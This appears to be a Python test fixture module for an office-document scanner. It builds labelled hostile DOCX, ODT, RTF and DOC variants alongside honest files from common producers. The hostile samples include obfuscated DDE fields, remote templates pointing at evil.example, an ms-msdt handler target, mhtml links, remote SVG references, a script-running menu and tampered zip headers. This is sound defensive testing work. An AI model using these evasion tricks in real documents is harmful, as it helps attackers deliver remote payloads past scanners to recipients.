"""A second round of variants, each written with its verdict first: hostile ideas, and habits of producers."""

import io
import struct
import zipfile
import zlib

from tests.integrations.compound_files import compound, doc, word_streams
from tests.integrations.file_samples import RELATIONSHIPS, docx, odt, patched, relationships, rtf
from tests.integrations.office_corpus.doc_files import field as doc_field
from tests.integrations.office_corpus.docx_parts import MC_NAMES, W_NAMES, drawing, field, part, related, runs, typed
from tests.integrations.office_corpus.embedded_files import pptx, within, xlsx
from tests.integrations.office_corpus.odt_files import at, styles
from tests.integrations.office_corpus.rtf_files import field as rtf_field
from tests.integrations.office_corpus.table import (
    ACTIVE,
    DAMAGED,
    EMBEDDED,
    MACROS,
    NOTHING,
    REMOTE,
    UNC,
    UNKNOWN,
    WEB,
    Honest,
    Hostile,
)

_MS = "http://schemas.microsoft.com/office"
_STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
_CHART = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"


def _unlike(at_in_header: int, value: bytes) -> bytes:
    """A DOCX whose main part is described differently in front of it and in the directory."""
    content = docx()
    name = content.index(b"word/document.xml")
    return patched(content, name - 30 + at_in_header, value)


def _with_unicode_path(name: str) -> bytes:
    """A DOCX with a part that has a second name for readers that know the extra field."""
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive_:
        entry = zipfile.ZipInfo("word/media/a.bin")
        told = struct.pack("<BI", 1, zlib.crc32(b"word/media/a.bin")) + name.encode()
        entry.extra = struct.pack("<2H", 0x7075, len(told)) + told
        archive_.writestr(entry, b"x")
    return out.getvalue()


def _chart(target: str) -> bytes:
    """A DOCX with a chart whose sheet is elsewhere."""
    return docx(
        {
            "[Content_Types].xml": typed(("/word/charts/chart1.xml", _CHART)),
            "word/charts/chart1.xml": "<a/>",
            "word/charts/_rels/chart1.xml.rels": relationships(("oleObject", target, True)),
        }
    )


def _drawing(inner: str) -> bytes:
    return docx({"word/media/a.svg": drawing(inner)})


def _counts(words: int, numbers: int) -> bytes:
    """A DOC whose first block says that its parts have other lengths, so that the pairs stand elsewhere."""
    document, table = word_streams()
    block = bytearray(document)
    struct.pack_into("<H", block, 32, words)
    struct.pack_into("<H", block, 62, numbers)
    return compound({"WordDocument": bytes(block), "1Table": table})


HOSTILE: Hostile = {
    "docx: flat package": (
        b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><pkg:package '
        b'xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"/>',
        UNKNOWN,
    ),
    "docx: document of Word 2003 in XML": (
        b'<?xml version="1.0"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"/>',
        UNKNOWN,
    ),
    "docx: web archive": (b'MIME-Version: 1.0\nContent-Type: multipart/related; boundary="a"\n\n--a\n', UNKNOWN),
    "docx: web page within, strict": (
        docx(
            {
                "word/_rels/document.xml.rels": relationships(("aFChunk", "a.mht", False)).replace(
                    RELATIONSHIPS, _STRICT
                ),
                "word/a.mht": "MIME-Version: 1.0",
            }
        ),
        ACTIVE,
    ),
    "docx: web page within, by type alone": (
        docx(
            {
                "[Content_Types].xml": typed(
                    defaults='<Default Extension="mht" ContentType="application/vnd.ms-word.afchunk"/>'
                ),
                "word/a.mht": "MIME-Version: 1.0",
            }
        ),
        ACTIVE,
    ),
    "docx: object of a handler of web archives": (
        related("oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html"),
        ACTIVE,
    ),
    "docx: picture of a handler of web archives": (related("image", "mhtml:http://evil.example/x!y"), REMOTE),
    "docx: template of a handler of programs": (related("attachedTemplate", "ms-msdt:/id PCWDiagnostic"), REMOTE),
    "docx: template without a mode": (related("attachedTemplate", UNC, external=False), REMOTE),
    "docx: template without a mode, by file": (
        related("attachedTemplate", "file:////evil.example/t", external=False),
        REMOTE,
    ),
    "docx: template without a mode, slashes apart": (
        related("attachedTemplate", "/&#9;/evil.example/t", external=False),
        REMOTE,
    ),
    "docx: sheet of a chart on a server": (_chart(f"file:///{UNC}"), REMOTE),
    "docx: sheet of a chart on the web": (_chart("https://evil.example/x.xlsx"), REMOTE),
    "docx: font on the web": (related("font", "http://evil.example/x", part="word/_rels/fontTable.xml.rels"), REMOTE),
    "docx: DDE in building blocks": (
        docx({"word/glossary/document.xml": part(field("DDE x"), "glossaryDocument")}),
        ACTIVE,
    ),
    "docx: DDE in a comment": (
        docx({"word/comments.xml": part(f"<w:comment>{field('DDE x')}</w:comment>", "comments")}),
        ACTIVE,
    ),
    "docx: DDE in an inserted run": (docx(body=field(f"<w:ins>{runs('DD')}</w:ins>" + runs("E x"))), ACTIVE),
    "docx: DDE in a smart tag": (docx(body=field(f"<w:smartTag>{runs('DD')}</w:smartTag>" + runs("E x"))), ACTIVE),
    "docx: DDE in letters of a font of symbols": (docx(body=field("\uf044\uf044\uf045 x")), ACTIVE),
    "docx: DDE in a box, twice": (
        docx(
            body=f"<mc:AlternateContent {MC_NAMES}><mc:Choice Requires='wps'/><mc:Fallback>{field('DDE x')}"
            "</mc:Fallback></mc:AlternateContent>"
        ),
        ACTIVE,
    ),
    "docx: add-in of a share": (
        docx(
            {
                "word/webextensions/webextension1.xml": f'<we:webextension xmlns:we="{_MS}/webextensions/webextension/'
                f'2010/11"><we:reference id="a" version="1.0" store="{UNC}" storeType="FileSystem"/></we:webextension>'
            }
        ),
        REMOTE,
    ),
    "docx: film of the web in a page": (
        docx(
            body=f'<w:p><wp15:webVideoPr xmlns:wp15="{_MS}/word/2012/wordprocessingDrawing" '
            'embeddedHtml="&lt;script&gt;x()&lt;/script&gt;"/></w:p>'
        ),
        ACTIVE,
    ),
    "docx: style sheet of data": (
        docx({"customXml/item1.xml": '<?xml-stylesheet type="text/xsl" href="//evil.example/x.xsl"?><a/>'}),
        REMOTE,
    ),
    "docx: drawing that moves to a server": (
        _drawing('<image><set attributeName="xlink:href" to="//evil.example/x.png"/></image>'),
        REMOTE,
    ),
    "docx: drawing that moves through servers": (
        _drawing('<image><animate attributeName="href" values="a.png;//evil.example/x.png"/></image>'),
        REMOTE,
    ),
    "docx: drawing with escapes in its style": (_drawing('<rect style="fill:u\\72l(//evil.example/x)"/>'), REMOTE),
    "docx: drawing that uses another": (_drawing('<use href="//evil.example/x.svg#a"/>'), REMOTE),
    "docx: drawing filled from a server": (_drawing('<rect fill="url(//evil.example/x.svg#a)"/>'), REMOTE),
    "docx: method told differently": (_unlike(8, b"\0\0"), DAMAGED),
    "docx: encryption told differently": (_unlike(6, b"\1\0"), DAMAGED),
    "docx: size told differently": (_unlike(18, b"\1\0\0\0"), DAMAGED),
    "docx: second name of a part": (_with_unicode_path("word/vbaProject.bin"), DAMAGED),
    "docx: folder with content": (docx({"word/x/": b"<a/>"}), DAMAGED),
    "embedded: binary sheet": (
        within(
            xlsx({"xl/workbook.bin": b"x", "xl/_rels/workbook.xml.rels": relationships(("xlMacrosheet", "a", False))})
        ),
        ACTIVE,
    ),
    "embedded: macro in a formula of a table": (
        within(
            xlsx(
                {"xl/tables/t.xml": "<table><calculatedColumnFormula>WEBSERVICE(A1)</calculatedColumnFormula></table>"}
            )
        ),
        ACTIVE,
    ),
    "embedded: description of data on a server": (
        within(xlsx({"xl/connections.xml": "<connections><connection odcFile='//evil.example/x.odc'/></connections>"})),
        ACTIVE,
    ),
    "embedded: linked sheet without a mode": (
        within(xlsx({"xl/externalLinks/_rels/e.xml.rels": relationships(("externalLinkPath", UNC, False))})),
        ACTIVE,
    ),
    "embedded: sound of a server in slides": (
        within(pptx({"ppt/slides/_rels/s.xml.rels": relationships(("audio", UNC, True))})),
        ACTIVE,
    ),
    "odt: object on the web": (at("draw:object", "http://evil.example/x.odt"), REMOTE),
    "odt: floating frame": (at("draw:floating-frame", "http://evil.example/"), REMOTE),
    "odt: sheet of a server": (at("table:table-source", "//evil.example/x.ods"), REMOTE),
    "odt: sound of a server": (at("presentation:sound", "//evil.example/x.wav"), REMOTE),
    "odt: colours of a server": (
        odt(
            {
                "settings.xml": styles(
                    '<config:config-item xmlns:config="urn:oasis:names:tc:opendocument:xmlns:config:1.0" '
                    'config:name="ColorTableURL" config:type="string">file://evil.example/x.soc</config:config-item>'
                )
            }
        ),
        REMOTE,
    ),
    "odt: menu that runs a script": (
        odt(
            {
                "Configurations2/menubar/menubar.xml": '<m:menubar xmlns:m="http://openoffice.org/2001/menu">'
                '<m:menuitem m:id="vnd.sun.star.script:a.py$b?language=Python&amp;location=share"/></m:menubar>'
            }
        ),
        MACROS,
    ),
    "odt: flat": (
        b'<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        b'office:mimetype="application/vnd.oasis.opendocument.text"/>',
        UNKNOWN,
    ),
    "odt: folder with content": (odt({"Basic/": b"x"}), DAMAGED),
    "rtf: mark without its last letter": (b"{\\rt1{\\object\\objdata 01}}", UNKNOWN),
    "rtf: DDE in letters of a font of symbols": (rtf(rtf_field("\\u-4028?\\u-4028?\\u-4027? x")), ACTIVE),
    "rtf: DDE in the text of a note": (rtf("{\\footnote " + rtf_field("DDE x") + "}"), ACTIVE),
    "rtf: DDE in a comment": (rtf("{\\*\\annotation " + rtf_field("DDEAUTO x") + "}"), ACTIVE),
    "rtf: DDE in a header of an old kind": (rtf("{\\*\\pnseclvl1{\\pntxta " + rtf_field("DDE x") + "}}"), ACTIVE),
    "rtf: object that updates itself": (rtf("{\\object\\objautlink\\objupdate{\\*\\objdata 01}}"), ACTIVE),
    "rtf: picture of a background": (
        rtf("{\\*\\background{\\shp{\\*\\shpinst{\\sp{\\sn fillBlipName}{\\sv \\\\\\\\evil\\\\x}}}}}"),
        REMOTE,
    ),
    "doc: DDE in letters of a font of symbols": (doc(text=doc_field("\uf044\uf044\uf045 x"), wide=True), ACTIVE),
    "doc: more words than there are": (_counts(0x10, 0x16), DAMAGED),
    "doc: fewer numbers than there are": (_counts(0x0E, 0x14), DAMAGED),
}

HONEST: Honest = {
    "docx: WPS Office": (
        docx(
            {
                "customXml/item1.xml": '<s:customData xmlns:s="http://www.wps.cn/officeDocument/2013/wpsCustomData"/>',
                "customXml/_rels/item1.xml.rels": relationships(("customXmlProps", "itemProps1.xml", False)),
                "customXml/itemProps1.xml": "<a/>",
                "word/_rels/document.xml.rels": relationships(("customXml", "../customXml/item1.xml", False)),
            }
        ),
        NOTHING,
    ),
    "docx: Pages": (docx({"docProps/app.xml": "<Properties><Application>Pages</Application></Properties>"}), NOTHING),
    "docx: pandoc": (
        docx(
            {
                "word/footnotes.xml": part('<w:footnote w:id="-1"/>', "footnotes"),
                "word/_rels/footnotes.xml.rels": relationships(("hyperlink", "https://www.gov.uk/", True)),
                "word/comments.xml": part("", "comments"),
            }
        ),
        NOTHING,
    ),
    "docx: OnlyOffice": (
        docx({"word/settings.xml": part('<w:docVars><w:docVar w:name="a" w:val="//b"/></w:docVars>', "settings")}),
        NOTHING,
    ),
    "docx: Word 365, with a label and people": (
        docx(
            {
                "docMetadata/LabelInfo.xml": f'<clbl:labelList xmlns:clbl="{_MS}/2020/mipLabelMetadata"/>',
                "_rels/.rels": relationships(
                    ("officeDocument", "word/document.xml", False),
                    ("classificationlabels", "docMetadata/LabelInfo.xml", False),
                ),
                "word/people.xml": '<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"/>',
                "word/commentsExtended.xml": "<a/>",
            }
        ),
        NOTHING,
    ),
    "docx: SharePoint": (
        docx(
            {
                "customXml/item1.xml": '<?mso-contentType?><FormTemplates xmlns="http://schemas.microsoft.com/sharepoint'
                '/v3/contenttype/forms"><Display>DocumentLibraryForm</Display></FormTemplates>',
                "customXml/item2.xml": '<ct:contentTypeSchema xmlns:ct="http://schemas.microsoft.com/office/2006/'
                'metadata/contentType" ct:_=""/>',
            }
        ),
        NOTHING,
    ),
    "docx: signed": (
        docx(
            {
                "_xmlsignatures/origin.sigs": b"",
                "_xmlsignatures/sig1.xml": '<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><Reference '
                'URI="/word/document.xml?ContentType=application/xml"/></Signature>',
                "_xmlsignatures/_rels/origin.sigs.rels": relationships(("signature", "sig1.xml", False)),
            }
        ),
        NOTHING,
    ),
    "docx: with its fonts": (docx({"word/fonts/font1.odttf": bytes(range(256)) * 20}), NOTHING),
    "docx: with ink and a thumbnail": (
        docx(
            {"word/ink/ink1.xml": '<inkml:ink xmlns:inkml="http://www.w3.org/2003/InkML"/>', "docProps/t.emf": b"\1\0"}
        ),
        NOTHING,
    ),
    "docx: with an add-in of the store": (
        docx(
            {
                "_rels/.rels": relationships(("officeDocument", "word/document.xml", False)),
                "word/webextensions/webextension1.xml": f'<we:webextension xmlns:we="{_MS}/webextensions/webextension/'
                '2010/11"><we:reference id="wa1" version="1.0" store="en-US" storeType="OMEX"/></we:webextension>',
            }
        ),
        NOTHING,
    ),
    "docx: drawing that moves": (_drawing('<rect><animate attributeName="x" values="0;9"/></rect>'), NOTHING),
    "docx: picture of the web in a drawing": (_drawing('<image href="https://example.org/a.png"/>'), WEB),
    "docx: chart with its sheet": (
        docx(
            {
                "[Content_Types].xml": typed(("/word/charts/chart1.xml", _CHART)),
                "word/charts/chart1.xml": "<a/>",
                "word/charts/_rels/chart1.xml.rels": relationships(("package", "../embeddings/a.xlsx", False)),
                "word/embeddings/a.xlsx": xlsx(),
            }
        ),
        EMBEDDED,
    ),
    "docx: form with names of macros": (
        docx(body=f'<w:p {W_NAMES}><w:ffData><w:entryMacro w:val="Check"/></w:ffData></w:p>'),
        NOTHING,
    ),
    "docx: folders": (docx({"word/media/": b"", "docProps/": b""}), NOTHING),
    "embedded: sheet with a table": (
        within(xlsx({"xl/tables/t.xml": "<table><calculatedColumnFormula>A1*2</calculatedColumnFormula></table>"})),
        EMBEDDED,
    ),
    "odt: Google Docs": (odt({"Fonts/Arial_regular.ttf": b"\0\1\0\0" + bytes(99)}), NOTHING),
    "odt: Word": (odt({"settings.xml": styles(""), "docProps/x.xml": "<a/>"}), NOTHING),
    "odt: LibreOffice, with its settings": (
        odt(
            {
                "settings.xml": styles(
                    '<c:config-item xmlns:c="urn:oasis:names:tc:opendocument:xmlns:config:1.0" c:name="PrinterSetup" '
                    'c:type="base64Binary">//4AAQ==</c:config-item><c:config-item xmlns:c="urn:oasis:names:tc:'
                    'opendocument:xmlns:config:1.0" c:name="PrinterName" c:type="string">HP</c:config-item>'
                ),
                "manifest.rdf": '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>',
                "Thumbnails/thumbnail.png": b"\x89PNG\r\n\x1a\n" + bytes(50),
            }
        ),
        NOTHING,
    ),
    "odt: signed": (
        odt(
            {
                "META-INF/documentsignatures.xml": '<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><Reference '
                'URI="content.xml"/></Signature>'
            }
        ),
        NOTHING,
    ),
    "odt: pandoc, with a formula": (
        odt(
            {"Formula-1/content.xml": '<math xmlns="http://www.w3.org/1998/Math/MathML"/>'},
            body='<draw:object xlink:href="Formula-1"/>',
        ),
        NOTHING,
    ),
    "rtf: TextEdit": (
        b"{\\rtf1\\ansi\\ansicpg1252\\cocoartf2761\\cocoatextscaling0 {\\colortbl;\\red0;} Policy}",
        NOTHING,
    ),
    "rtf: Word, with its theme and data": (
        rtf("{\\*\\themedata 504b030414000600}{\\*\\colorschememapping 3c3f}{\\*\\datastore 0105000002000000}"),
        NOTHING,
    ),
    "rtf: letter of Outlook": (
        rtf("{\\*\\htmltag64 <p>}\\htmlrtf\\par\\htmlrtf0 Policy{\\*\\htmltag72 </p>}"),
        NOTHING,
    ),
    "doc: symbols in the text": (doc(text="\uf044\uf0b7 Policy\r", wide=True), NOTHING),
}
